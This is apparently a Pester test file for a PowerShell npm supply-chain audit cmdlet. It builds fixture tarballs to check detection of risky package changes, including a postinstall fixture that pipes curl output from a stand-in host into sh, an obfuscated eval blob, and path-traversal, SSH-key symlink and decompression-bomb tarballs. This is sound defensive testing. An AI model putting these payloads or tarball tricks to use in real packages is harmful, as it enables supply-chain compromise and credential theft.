#Requires -Version 5.1
# Compare-NpmStagedPackage against the real npm: fixture pairs are made by `npm pack`, the file-level result must
# equal `npm diff --diff-name-only` on the same two tarballs, and the -Summary integrity must equal what npm pack
# reports. Crafted tarballs (what npm pack cannot make) are written byte by byte below.

BeforeAll {
    Import-Module -Name $env:NPMH_MODULE_PATH -Force -ErrorAction Stop
    $script:Npm = Get-Command npm -CommandType Application -ErrorAction SilentlyContinue | Select-Object -First 1
    $script:Root = Join-Path ([IO.Path]::GetTempPath()) ("npmh-compare-" + [guid]::NewGuid().ToString('n').Substring(0, 8))
    $null = New-Item -ItemType Directory -Path $Root -Force

    # A package folder from a hashtable of relative path -> text (or byte[]), packed by the real npm; returns the .tgz path
    # and npm pack's own integrity and shasum.
    function script:New-Pack([string] $Name, [hashtable] $Files) {
        $dir = Join-Path $Root $Name
        $null = New-Item -ItemType Directory -Path $dir -Force
        foreach ($k in $Files.Keys) {
            $path = Join-Path $dir $k
            $null = New-Item -ItemType Directory -Path (Split-Path $path) -Force
            if ($Files[$k] -is [byte[]]) { [IO.File]::WriteAllBytes($path, $Files[$k]) }
            else { [IO.File]::WriteAllText($path, $Files[$k]) }
        }
        # one destination per fixture: npm names every 1.0.1 tarball the same
        $dest = Join-Path $Root "tgz-$Name"
        $null = New-Item -ItemType Directory -Path $dest -Force
        $json = & $Npm.Source pack $dir --pack-destination $dest --json --ignore-scripts 2>$null | Out-String | ConvertFrom-Json
        [pscustomobject]@{ Path = Join-Path $dest $json[0].filename; Integrity = $json[0].integrity; Shasum = $json[0].shasum }
    }

    function script:Merge([hashtable] $A, [hashtable] $B) {
        $m = @{}; foreach ($k in $A.Keys) { $m[$k] = $A[$k] }; foreach ($k in $B.Keys) { $m[$k] = $B[$k] }; $m
    }

    function script:Manifest([string] $Version, [hashtable] $Extra = @{}) {
        $m = [ordered]@{ name = 'npmh-fixture'; version = $Version; main = 'index.js' }
        foreach ($k in $Extra.Keys) { $m[$k] = $Extra[$k] }
        $m | ConvertTo-Json -Depth 5
    }

    # npm diff on two local tarballs: --diff=<path>.tgz twice (libnpmdiff reads both with pacote, file specs: no
    # registry, and --offline with a dead registry proves it)
    function script:NpmDiffNames([string] $A, [string] $B) {
        @(& $Npm.Source diff "--diff=$A" "--diff=$B" --diff-name-only --offline --registry=http://127.0.0.1:9/ 2>$null | Where-Object { $_ })
    }

    function script:OurNames($Changes) {
        @($Changes | Where-Object { $_.RuleId -in 'NPMH12011', 'NPMH12012', 'NPMH12013' } | ForEach-Object File)
    }

    # ---- a tar writer for what npm pack never makes ----
    function script:TarHeader([string] $Path, [char] $Type, [long] $Size, [string] $Link = '') {
        $h = New-Object byte[] 512
        $put = { param($off, $len, $text) $b = [Text.Encoding]::UTF8.GetBytes($text); [Array]::Copy($b, 0, $h, $off, [Math]::Min($b.Length, $len)) }
        & $put 0 100 $Path
        & $put 100 8 '0000644'
        & $put 108 8 '0000000'
        & $put 116 8 '0000000'
        & $put 124 12 ([Convert]::ToString($Size, 8).PadLeft(11, '0'))
        & $put 136 12 '00000000000'
        $h[156] = [byte] $Type
        & $put 157 100 $Link
        & $put 257 6 "ustar`0"
        & $put 263 2 '00'
        for ($i = 148; $i -lt 156; $i++) { $h[$i] = 32 }
        $sum = 0; foreach ($b in $h) { $sum += $b }
        & $put 148 8 ([Convert]::ToString($sum, 8).PadLeft(6, '0') + "`0 ")
        , $h
    }

    function script:New-CraftedTgz([string] $Name, [object[]] $Entries, [switch] $NoEnd) {
        $tar = New-Object IO.MemoryStream
        foreach ($e in $Entries) {
            $data = if ($e.Data) { [Text.Encoding]::UTF8.GetBytes($e.Data) } else { New-Object byte[] 0 }
            $size = if ($null -ne $e.Size) { [long] $e.Size } else { $data.Length }
            $h = TarHeader $e.Path ([char] $(if ($e.Type) { $e.Type } else { '0' })) $size $(if ($e.Link) { $e.Link } else { '' })
            $tar.Write($h, 0, 512)
            $tar.Write($data, 0, $data.Length)
            $pad = (512 - $data.Length % 512) % 512
            $tar.Write((New-Object byte[] $pad), 0, $pad)
        }
        if (-not $NoEnd) { $tar.Write((New-Object byte[] 1024), 0, 1024) }
        $path = Join-Path $Root $Name
        $out = [IO.File]::Create($path)
        $gz = New-Object IO.Compression.GZipStream($out, [IO.Compression.CompressionMode]::Compress)
        $bytes = $tar.ToArray(); $gz.Write($bytes, 0, $bytes.Length); $gz.Dispose(); $out.Dispose()
        $path
    }

    $script:Pkg = '{"name":"npmh-crafted","version":"1.0.0"}'
}

AfterAll {
    Remove-Item -LiteralPath $Root -Recurse -Force -ErrorAction SilentlyContinue
}

Describe 'Compare-NpmStagedPackage with tarballs made by npm pack' -Skip:(-not (Get-Command npm -CommandType Application -ErrorAction SilentlyContinue)) {
    BeforeAll {
        $base = @{ 'index.js' = "module.exports = function add(a, b) { return a + b }`n"; 'README.md' = "# fixture`n"; 'lib/util.js' = "exports.id = x => x`n" }
        $script:V1 = New-Pack 'v1' (Merge $base @{ 'package.json' = (Manifest '1.0.0') })
        $script:Pairs = [ordered]@{
            'benign update'    = New-Pack 'benign' @{ 'package.json' = (Manifest '1.0.1'); 'index.js' = "module.exports = (a, b) => a + b`n"; 'lib/util.js' = "exports.id = x => x`n"; 'CHANGELOG.md' = "1.0.1`n" }
            'new postinstall'  = New-Pack 'postinstall' (Merge $base @{ 'package.json' = (Manifest '1.0.1' @{ scripts = @{ postinstall = 'node setup.js' } }); 'setup.js' = "require('child_process').execSync('curl -s https://e.example/x | sh')`n" })
            'new dependency'   = New-Pack 'dependency' (Merge $base @{ 'package.json' = (Manifest '1.0.1' @{ dependencies = @{ 'left-pad' = '^1.3.0'; 'helper' = 'github:someone/helper' } }) })
            'obfuscated blob'  = New-Pack 'obfuscated' (Merge $base @{ 'package.json' = (Manifest '1.0.1'); 'index.js' = ("var _0x=['" + (-join (1..120 | ForEach-Object { '\x{0:x2}' -f ($_ * 7 % 256) })) + "'];eval(_0x[0])`n") })
            'native binary'    = New-Pack 'native' (Merge $base @{ 'package.json' = (Manifest '1.0.1'); 'prebuilds/linux-x64/addon' = [byte[]]((0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0) + (New-Object byte[] 120)) })
        }
        $script:Results = @{}
        foreach ($k in $Pairs.Keys) { $Results[$k] = @(Compare-NpmStagedPackage -Path $Pairs[$k].Path -ReferencePath $V1.Path) }
    }

    It 'lists the same files as npm diff --diff-name-only for the <_> pair' -ForEach @('benign update', 'new postinstall', 'new dependency', 'obfuscated blob', 'native binary') {
        $npm = NpmDiffNames $V1.Path $Pairs[$_].Path
        $npm.Count | Should -BeGreaterThan 0
        @(OurNames $Results[$_] | Sort-Object) | Should -Be @($npm | Sort-Object)
    }

    It 'agrees with npm diff on a first version compared with its successor, both ways' {
        @(OurNames (Compare-NpmStagedPackage -Path $V1.Path -ReferencePath $Pairs['benign update'].Path) | Sort-Object) |
            Should -Be @(NpmDiffNames $Pairs['benign update'].Path $V1.Path | Sort-Object)
    }

    It 'finds nothing above Info in the benign update' {
        $r = $Results['benign update']
        @($r | Where-Object Severity -gt 'Info') | Should -BeNullOrEmpty
        ($r | Where-Object File -eq 'CHANGELOG.md').Change | Should -Be 'Added'
        ($r | Where-Object File -eq 'README.md').Change | Should -Be 'Removed'
        $idx = $r | Where-Object File -eq 'index.js'
        $idx.SizeDelta | Should -Be ($idx.SizeAfter - $idx.SizeBefore)
    }

    It 'makes the new postinstall High with the script, and the child_process in its file High with its line' {
        $r = $Results['new postinstall']
        $script = $r | Where-Object RuleId -eq 'NPMH12001'
        $script.Field | Should -Be 'scripts.postinstall'
        $script.After | Should -Be 'node setup.js'
        "$($script.Severity)" | Should -Be 'High'
        $cp = $r | Where-Object RuleId -eq 'NPMH12017'
        $cp.File | Should -Be 'setup.js'
        $cp.Location.Line | Should -Be 1
        (Compare-NpmStagedPackage -Path $Pairs['new postinstall'].Path -ReferencePath $V1.Path -Summary).Risk | Should -Be 'High'
    }

    It 'reports the new dependency and the one from git' {
        $r = $Results['new dependency']
        ($r | Where-Object RuleId -eq 'NPMH12003').Field | Should -Be 'dependencies.left-pad'
        ($r | Where-Object RuleId -eq 'NPMH12004').Field | Should -Be 'dependencies.helper'
    }

    It 'reports the obfuscated blob and the eval it feeds' {
        $r = $Results['obfuscated blob']
        ($r | Where-Object RuleId -eq 'NPMH12015').Message | Should -Match 'hex'
        ($r | Where-Object RuleId -eq 'NPMH12018').File | Should -Be 'index.js'
    }

    It 'reports the native binary by its ELF magic' {
        $n = $Results['native binary'] | Where-Object RuleId -eq 'NPMH12014'
        $n.File | Should -Be 'prebuilds/linux-x64/addon'
        $n.Message | Should -Match 'ELF'
    }

    It 'gives the integrity and shasum npm pack computed for the staged tarball' {
        $s = Compare-NpmStagedPackage -Path $Pairs['benign update'].Path -ReferencePath $V1.Path -Summary
        $s.Integrity | Should -Be $Pairs['benign update'].Integrity
        $s.Shasum | Should -Be $Pairs['benign update'].Shasum
        $s.Complete | Should -BeTrue
        ($s.FilesAdded + $s.FilesRemoved + $s.FilesChanged) | Should -Be (NpmDiffNames $V1.Path $Pairs['benign update'].Path).Count
    }

    It 'reviews a first version as everything Added, and takes tarballs from Get-ChildItem' {
        $first = @(Compare-NpmStagedPackage -LiteralPath $V1.Path)
        @($first | Where-Object Change -ne 'Added') | Should -BeNullOrEmpty
        @(OurNames $first | Sort-Object) | Should -Be @('README.md', 'index.js', 'lib/util.js', 'package.json' | Sort-Object)
        # Where-Object, not -Filter: Wine 8's directory search never matches a DOS pattern with '.' before '*' (which
        # .NET hands on as DOS_DOT), so -Filter found no tarball there (README, "TestWindows"); Windows matches both.
        $many = @(Get-ChildItem -LiteralPath $Root -File -Recurse | Where-Object Name -like 'npmh-fixture-1.0.*.tgz' | Compare-NpmStagedPackage -ReferencePath $V1.Path -Summary)
        $many.Count | Should -Be 6
        @($many | Where-Object Risk -ge 'High').Count | Should -Be 4
    }

    It 'takes -Policy exceptions (Suppressed, not counted in the risk), -ExcludeRule and -Severity as the other audits do' {
        $policy = Join-Path $Root 'review-policy.psd1'
        Set-Content -LiteralPath $policy -Value @"
@{
    Exceptions = @(
        @{ RuleId = 'NPMH12014'; Context = 'npmh-fixture@*'; Location = 'prebuilds/*'; Justification = 'prebuilt by our release job, SEC-7' }
    )
}
"@
        $native = $Pairs['native binary'].Path
        $all = @(Compare-NpmStagedPackage -Path $native -ReferencePath $V1.Path -Policy $policy)
        $bin = $all | Where-Object RuleId -eq 'NPMH12014'
        "$($bin.Status)" | Should -Be 'Suppressed'
        $bin.Suppression.Justification | Should -Match 'SEC-7'
        $s = Compare-NpmStagedPackage -Path $native -ReferencePath $V1.Path -Policy $policy -Summary
        $s.Suppressed | Should -Be 1
        "$($s.Risk)" | Should -Be 'Info'
        (Compare-NpmStagedPackage -Path $native -ReferencePath $V1.Path -Summary).Risk | Should -Be 'High'
        @(Compare-NpmStagedPackage -Path $native -ReferencePath $V1.Path -ExcludeRule 'NPMH1201?' | Where-Object RuleId -like 'NPMH1201?') | Should -BeNullOrEmpty
        @(Compare-NpmStagedPackage -Path $Pairs['new postinstall'].Path -ReferencePath $V1.Path -Severity High | ForEach-Object { "$($_.Severity)" } | Select-Object -Unique) | Should -Be @('High')
    }

    It 'survives Export-Clixml and goes into Export-NpmHardeningReport' {
        $file = Join-Path $Root 'changes.xml'
        $Results['new postinstall'] | Export-Clixml -LiteralPath $file
        $back = @(Import-Clixml -LiteralPath $file)
        # rehydrated into the live type (docs/types/Deserialization.md)
        $back[0].GetType().FullName | Should -Be 'NpmHardening.NpmPackageChange'
        @($back | Where-Object Severity -ge 'High').Count | Should -Be @($Results['new postinstall'] | Where-Object Severity -ge 'High').Count
        ($back | Format-Table | Out-String -Width 200) | Should -Match 'Risk\s+RuleId\s+Change'
        $report = $Results['new postinstall'] | Export-NpmHardeningReport -Format Json -Path (Join-Path $Root 'review.json') -PassThru
        $json = Get-Content -LiteralPath $report.FullName -Raw | ConvertFrom-Json
        ($json | ConvertTo-Json -Depth 8) | Should -Match 'NPMH12001'
        $summary = Compare-NpmStagedPackage -Path $Pairs['new postinstall'].Path -ReferencePath $V1.Path -Summary
        ($summary | Format-Table | Out-String -Width 200) | Should -Match 'Files \+/-/~'
    }
}

Describe 'Compare-NpmStagedPackage with crafted and broken tarballs' {
    It 'reports traversal, absolute, link, device and duplicate entries' {
        $t = New-CraftedTgz 'tricks.tgz' @(
            @{ Path = 'package/package.json'; Data = $Pkg }
            @{ Path = 'package/../../.bashrc'; Data = 'curl x | sh' }
            @{ Path = '/etc/cron.d/job'; Data = '*' }
            @{ Path = 'package/key'; Type = '2'; Link = '../../.ssh/id_rsa' }
            @{ Path = 'package/hard'; Type = '1'; Link = 'package/package.json' }
            @{ Path = 'package/pipe'; Type = '6' }
            @{ Path = 'package/index.js'; Data = 'good' }
            @{ Path = 'package/index.js'; Data = 'evil' }
        )
        $r = @(Compare-NpmStagedPackage -Path $t)
        @($r | Where-Object RuleId -eq 'NPMH12023').Count | Should -Be 3
        @($r | Where-Object RuleId -eq 'NPMH12024' | ForEach-Object File) | Should -Be @('key', 'hard')
        ($r | Where-Object RuleId -eq 'NPMH12025').File | Should -Be 'pipe'
        ($r | Where-Object RuleId -eq 'NPMH12026').File | Should -Be 'index.js'
    }

    It 'reports a tar bomb at its bound without reading it' {
        $t = New-CraftedTgz 'bomb.tgz' @(
            @{ Path = 'package/package.json'; Data = $Pkg }
            @{ Path = 'package/huge.bin'; Size = 8GB }
        ) -NoEnd
        (Get-Item -LiteralPath $t).Length | Should -BeLessThan 2KB
        $s = Compare-NpmStagedPackage -Path $t -Summary
        $s.Complete | Should -BeFalse
        $s.TopReasons[0] | Should -Match 'NPMH12027: .*8,589,934,592 bytes'
    }

    It 'reports a gzip bomb at the compression-ratio bound' {
        $path = Join-Path $Root 'gzbomb.tgz'
        $out = [IO.File]::Create($path)
        $gz = New-Object IO.Compression.GZipStream($out, [IO.Compression.CompressionLevel]::Optimal)
        $h = TarHeader 'package/zeros' '0' (200MB)
        $gz.Write($h, 0, 512)
        $zeros = New-Object byte[] (1MB)
        for ($i = 0; $i -lt 200; $i++) { $gz.Write($zeros, 0, $zeros.Length) }
        $gz.Dispose(); $out.Dispose()
        $sw = [Diagnostics.Stopwatch]::StartNew()
        $r = @(Compare-NpmStagedPackage -Path $path)
        ($r | Where-Object RuleId -eq 'NPMH12027').Message | Should -Match 'times its compressed size'
        $sw.Elapsed.TotalSeconds | Should -BeLessThan 10
    }

    It 'writes TarballUnreadable for garbage and a truncated tarball, with the High change, and goes on' {
        $garbage = Join-Path $Root 'garbage.tgz'
        Set-Content -LiteralPath $garbage -Value 'not a tarball'
        $good = New-CraftedTgz 'good.tgz' @(@{ Path = 'package/package.json'; Data = $Pkg }; @{ Path = 'package/a.js'; Data = ('x' * 20000) })
        $bytes = [IO.File]::ReadAllBytes($good)
        $truncated = Join-Path $Root 'truncated.tgz'
        [IO.File]::WriteAllBytes($truncated, $bytes[0..($bytes.Length / 2)])
        $out = @(Compare-NpmStagedPackage -Path $garbage, $truncated, $good -Summary -ErrorVariable errs -ErrorAction SilentlyContinue)
        $out.Count | Should -Be 3
        $id = 'TarballUnreadable,NpmHardening.Commands.CompareNpmStagedPackageCommand'
        @($errs | ForEach-Object FullyQualifiedErrorId) | Should -Be @($id, $id)
        $errs[0].TargetObject | Should -Be $garbage
        $errs[1].Exception.Message | Should -Match 'truncated|corrupt'
        @($out | ForEach-Object { "$($_.Risk)" }) | Should -Be @('High', 'High', 'Low')
    }

    It 'names a missing staged tarball as an error and stops on a missing reference' {
        $good = New-CraftedTgz 'good2.tgz' @(@{ Path = 'package/package.json'; Data = $Pkg })
        $out = @(Compare-NpmStagedPackage -Path (Join-Path $Root 'nope.tgz'), $good -Summary -ErrorVariable errs -ErrorAction SilentlyContinue)
        $out.Count | Should -Be 1
        $errs[0].FullyQualifiedErrorId | Should -Be 'StagedTarballNotFound,NpmHardening.Commands.CompareNpmStagedPackageCommand'
        { Compare-NpmStagedPackage -Path $good -ReferencePath (Join-Path $Root 'nope.tgz') } |
            Should -Throw -ErrorId 'ReferenceTarballNotFound,NpmHardening.Commands.CompareNpmStagedPackageCommand'
    }
}
